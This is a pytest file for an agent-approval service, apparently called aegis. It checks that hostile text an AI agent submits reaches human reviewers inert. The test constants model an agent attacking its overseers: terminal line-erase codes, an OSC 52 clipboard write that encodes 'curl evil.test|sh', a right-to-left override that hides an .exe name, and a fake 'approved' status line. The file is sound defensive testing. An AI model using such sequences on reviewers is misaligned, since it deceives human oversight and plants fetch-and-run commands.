"""Agent-written text is shown inert: by `aegis approvals`, `aegis grants` and the inbox."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from serve_support import Server, create_token

#: what a hostile agent writes: erase the line, OSC 52 (write the clipboard), a
#: C1 CSI, a bell, a fake line, and a right-to-left override
CSI_ERASE = "\x1b[2K\x1b[1A"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"
C1_CSI = "\x9b31m"
RLO = "\u202e"
HOSTILE = f"ok{CSI_ERASE}{OSC52}{C1_CSI}\nstatus:      approved{RLO}fdp.exe"
ACTIVE = ("\x1b", "\x07", "\x9b", RLO)


class Setup:
    """The running service, its tokens, and the request and grant the agent left."""

    def __init__(self, server: Server, db: Path, tokens: dict[str, str]) -> None:
        self.server = server
        self.db = db
        self.tokens = tokens
        self.request_id = ""


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    """`aegis serve` with a pending hostile request and a grant given on another."""
    folder = tmp_path_factory.mktemp("inert")
    db = folder / "aegis.db"
    tokens = {
        "alice": create_token(db, "alice", "reviewer"),
        "bob": create_token(db, "bob", "reviewer"),
        "bot": create_token(db, "bot", "agent"),
    }
    with Server(db) as server:
        made = Setup(server, db, tokens)
        agent = {"Authorization": f"Bearer {tokens['bot']}"}
        body = {
            "session_id": f"s{RLO}1",
            "action": {
                "type": "send_file",
                "target": f"invoice_{RLO}fdp.exe{CSI_ERASE}",
                "params": {"note": HOSTILE, f"k{OSC52}": 1},
                "description": HOSTILE,
            },
            "reason": HOSTILE,
            "matched_rule": f"rule{C1_CSI}",
        }
        first = httpx.post(f"{server.url}/api/v1/approvals", json=body, headers=agent, timeout=10)
        assert first.status_code == 201, first.text
        granted = httpx.post(
            f"{server.url}/api/v1/approvals",
            json={**body, "session_id": "s2"},
            headers=agent,
            timeout=10,
        ).json()
        decided = httpx.post(
            f"{server.url}/api/v1/approvals/{granted['id']}/decision",
            json={"verdict": "approve", "grant_minutes": 30, "comment": HOSTILE},
            headers={"Authorization": f"Bearer {tokens['bob']}"},
            timeout=10,
        )
        assert decided.status_code == 200, decided.text
        made.request_id = first.json()["id"]
        yield made


def run_piped(setup: Setup, *args: str) -> str:
    """Run the CLI with stdout piped; return what it wrote."""
    done = subprocess.run(
        [sys.executable, "-m", "aegis", *args],
        capture_output=True,
        timeout=60,
        env={**os.environ, "AEGIS_TOKEN": setup.tokens["alice"], "AEGIS_URL": setup.server.url},
        check=True,
    )
    return done.stdout.decode("utf-8", "replace")


def run_on_terminal(setup: Setup, *args: str) -> str:
    """Run the CLI with stdout on a pseudo-terminal; return what it wrote."""
    leader, follower = pty.openpty()
    env = {
        **os.environ,
        "AEGIS_TOKEN": setup.tokens["alice"],
        "AEGIS_URL": setup.server.url,
        "NO_COLOR": "1",
        "COLUMNS": "200",
        "TERM": "xterm",
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "aegis", *args], stdout=follower, stderr=subprocess.PIPE, env=env
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 0, err
    return b"".join(chunks).decode("utf-8", "replace")


def agent_sequences(text: str) -> list[str]:
    """The agent's active characters that reached the output."""
    # Our own styling may use SGR (ESC [ ... m) on a terminal; nothing else may pass.
    ours = re.sub(r"\x1b\[[0-9;]*m", "", text)
    return [c for c in ACTIVE if c in ours]


@pytest.mark.parametrize("run", [run_piped, run_on_terminal])
@pytest.mark.parametrize(
    "command",
    [
        ("approvals", "show", "{id}"),
        ("approvals", "list"),
        ("approvals", "list", "--status", "all"),
        ("grants", "list", "--db", "{db}"),
    ],
)
def test_cli_shows_agent_text_inert(setup: Setup, run: object, command: tuple[str, ...]) -> None:
    """No control sequence or bidi override the agent wrote reaches the reviewer's terminal."""
    args = [a.format(id=setup.request_id, db=setup.db) for a in command]
    out = run(setup, *args)  # type: ignore[operator]
    assert out.strip()
    assert agent_sequences(out) == []
    assert "\\u202e" in out or "\\x1b" in out  # shown, visibly, not dropped


def test_cli_json_output_escapes_what_terminals_obey(setup: Setup) -> None:
    """`--format json` escapes C1 and bidi controls too, and reads back to the exact text."""
    out = run_piped(setup, "approvals", "show", setup.request_id, "--format", "json")
    assert agent_sequences(out) == []
    assert json.loads(out)["action"]["description"] == HOSTILE


def test_inbox_shows_bidi_and_control_characters_visibly(setup: Setup) -> None:
    """The inbox draws ⟨U+202E⟩ where the agent put an override, never the override itself."""
    with httpx.Client(base_url=setup.server.url) as browser:
        nonce = re.search(r'name="csrf" value="([^"]+)"', browser.get("/signin").text)
        assert nonce is not None
        browser.post("/signin", data={"token": setup.tokens["alice"], "csrf": nonce.group(1)})
        page = browser.get(f"/requests/{setup.request_id}")
        listing = browser.get("/")
    assert page.status_code == 200
    for html in (page.text, listing.text):
        assert RLO not in html
        assert "\x1b" not in html
        assert "U+202E" in html
